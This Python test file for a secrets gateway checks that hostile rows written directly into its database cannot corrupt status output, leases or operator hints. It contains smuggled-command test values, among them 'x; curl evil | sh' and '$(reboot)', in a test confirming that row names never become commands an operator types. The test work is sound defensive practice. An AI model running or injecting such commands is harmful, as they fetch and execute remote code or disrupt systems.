"""Attacks by who can write the database on what is asked of whole tables: which keys are in use, whose grants there are, which
rotations are under way. What is put there is told for what it is, and hides nothing."""

import asyncio
import json
import time
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from sqlalchemy import TextClause, text

from gateway.cli.secrets_list import tell_keys
from gateway.credentials.stored.resealing import Resealing
from gateway.custody import Custody
from gateway.doctor.custody import rotations
from gateway.fetch import HttpFetch
from gateway.resources import Nobody, SystemClock
from gateway.rotations import Rotations
from gateway.settings import load
from gateway.store.bell import Bell
from gateway.store.sql.leases import Leases
from gateway.store.sql.texts import LONGEST_ID, MOST_KEYS
from tests.storing import BOTH_KEYS, ENVIRON, Beside, ring, storing

NOT_UTF_8 = "CAST(x'ff' AS TEXT)"
SECRETS = """INSERT INTO secrets WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 5000)
SELECT {name}, 'lgs1:x', {key_id}, 1, 'rotation', {subject}, '', 0, 0, NULL FROM n LIMIT {many}"""


def secrets(many: int, *, name: str = "'a' || i", key_id: str = "'k1'", subject: str = "''") -> TextClause:
    """Rows that no gateway wrote, `i` is the number of each."""
    return text(SECRETS.format(many=many, name=name, key_id=key_id, subject=subject))


@pytest.fixture
async def beside(tmp_path: Path) -> AsyncIterator[Beside]:
    async with Beside(tmp_path / "store.db") as opened:
        yield opened


@pytest.mark.parametrize("id", ["zeroblob(3)", NOT_UTF_8, "printf('%.*c', 20000000, 'x')", "char(27) || '[2J'"], ids=str)
async def test_the_id_of_a_key_that_is_none_can_be_told_and_keeps_no_other_text_under_an_old_key(
    beside: Beside, tmp_path: Path, capsys: pytest.CaptureFixture[str], id: str
) -> None:
    for name in ("bot", "other"):
        await beside.put(name, "value")
    await beside.database.write(text("UPDATE secrets SET key_id = ID, sealed = 'lgs1:x' WHERE name = 'bot'".replace("ID", id)))
    (tmp_path / "config.yaml").write_text(json.dumps({"version": 1} | storing({"file": "store.db"}, "other", **BOTH_KEYS)))
    loaded = load([tmp_path / "config.yaml"], [], environ=ENVIRON)
    clock = SystemClock()
    custody = Custody(lambda: loaded, lambda: beside.database, clock, Nobody(), lambda *_, **__: None, Bell(clock.monotonic))
    await custody.reseal(settled=0, pause=0)
    status = loaded.vault.status()
    assert len(json.dumps(status).encode()) < 1000
    ((key, count),) = [each for each in status["vault"]["stored"]["secrets"].items() if each[0] != "k2"]
    assert count == 1
    assert len(key) <= LONGEST_ID
    await asyncio.to_thread(tell_keys, loaded, ring("k2", "k1"))
    told = capsys.readouterr().err
    assert ": 1 in secrets" in told
    assert told.replace("\n", "").isprintable()


async def test_endless_ids_of_keys_are_bounded_and_hide_none_of_ours(beside: Beside) -> None:
    await beside.put("bot", "value")
    await beside.database.write(secrets(5000, key_id="'a' || i"))
    found = (await Resealing(beside.database, ring("k2", "k1"), time.time).tally(0))["secrets"]
    assert len(found) <= MOST_KEYS + 2
    assert [each.count for each in found if each.key_id == "k1"] == [1]


async def test_garbage_under_our_key_does_not_make_it_another_key_of_that_name(beside: Beside) -> None:
    await beside.put("zulu", "value")
    await beside.database.write(secrets(30))
    assert await Resealing(beside.database, ring(), time.time).misfits() == []
    await beside.revoke("zulu")
    assert len(await Resealing(beside.database, ring(), time.time).misfits()) == 30


@pytest.mark.parametrize(
    "fence", ["'abc'", "'7 of 9'", "zeroblob(3)", NOT_UTF_8, "9223372036854775807", "1e300", "-9e999", "-5"], ids=str
)
async def test_a_fence_that_is_no_number_keeps_nobody_from_the_turn(beside: Beside, fence: str) -> None:
    leases = Leases(beside.database)
    change = text("UPDATE leases SET fence = FENCE, until = 9e15".replace("FENCE", fence))
    assert await leases.take("grant:1", 30) is not None
    await beside.database.write(change)
    assert await leases.take("grant:1", 30) is None
    watched = await leases.fence("grant:1")
    assert watched >= 0
    seized = await leases.seize("grant:1", 30, watched)
    assert seized is not None
    after = (watched + 1) % 2**30
    assert seized.fence == after == await leases.fence("grant:1")
    await beside.database.write(change)
    await leases.release(seized)
    taken = await leases.take("grant:1", 30)
    assert taken is not None
    assert taken.fence == after


class Watched:
    """A gateway without rotations looks for those that nothing goes on with, and a doctor beside it."""

    def __init__(self, beside: Beside, folder: Path) -> None:
        (folder / "config.yaml").write_text(json.dumps({"version": 1} | storing({"file": "store.db"})))
        self.loaded = load([folder / "config.yaml"], [], environ=ENVIRON)
        self.beside = beside
        self.told: list[dict[str, str]] = []
        fetch, clock = HttpFetch(user_agent="latchgate/test"), SystemClock()
        self.rotations = Rotations(lambda: self.loaded, lambda: beside.database, fetch, clock, Nobody(), self.tell)

    def tell(self, name: str, /, **fields: str) -> None:
        assert name == "secret.rotation.orphaned"
        self.told.append(fields)

    async def look(self) -> list[str]:
        """The hints of the doctor; what the gateway told is in `told`."""
        for _ in range(2):
            await self.rotations.turn()
        assert self.loaded.settings is not None
        return [each.hint for each in await rotations(self.loaded, self.loaded.settings, self.beside.database, time.time())]


async def test_no_row_that_is_idle_huge_or_no_text_hides_a_rotation_that_nothing_ends(beside: Beside, tmp_path: Path) -> None:
    for decoys in (
        secrets(600, name="'rotation:a' || i", subject="'idle'"),
        secrets(600, name="'rotation:b' || i || char(0) || printf('%.*c', 300, 'x')"),
        secrets(600, name="'rotation:c' || i || printf('%.*c', 300, 'x')"),
        secrets(600, name="CAST('rotation:d' || i AS BLOB)"),
        secrets(300, name="'rotation:e' || i || CAST(x'ff' AS TEXT)"),
        secrets(1, name="'rotation:zulu'", subject="'overlap'"),
    ):
        await beside.database.write(decoys)
    watched = Watched(beside, tmp_path)
    hints = await watched.look()
    assert [(each["entry"], each["step"]) for each in watched.told] == [("?", "?"), ("zulu", "overlap")]
    assert [hint for hint in hints if "--forget" in hint] == [each["detail"] for each in watched.told if each["entry"] == "zulu"]


@pytest.mark.parametrize("name", ["x; curl evil | sh", "$(reboot)", "-x", "two words", "\u001b[2J"])
async def test_no_name_of_a_row_becomes_a_command_that_an_operator_types(beside: Beside, tmp_path: Path, name: str) -> None:
    row = secrets(1, name=":name", subject="printf('%.*c', 20000000, 'x')").bindparams(name=f"rotation:{name}")
    await beside.database.write(row)
    watched = Watched(beside, tmp_path)
    hints = await watched.look()
    ((entry, step, hint),) = [(each["entry"], each["step"], each["detail"]) for each in watched.told]
    assert (entry, step, hints) == (name, "?", [hint])
    assert name not in hint
    assert "delete the row" in hint


async def test_what_has_a_huge_key_is_read_by_nobody(beside: Beside) -> None:
    await beside.put("bot", "value")
    for nul in ("''", "char(0)"):
        await beside.database.write(secrets(1, name=f"'a' || {nul} || printf('%.*c', 20000000, 'x')"))
    assert [row.name for row in await beside.rows.page()] == ["bot"]
    assert [done.text.key async for done in Resealing(beside.database, ring(), time.time).verified()] == [("bot",)]
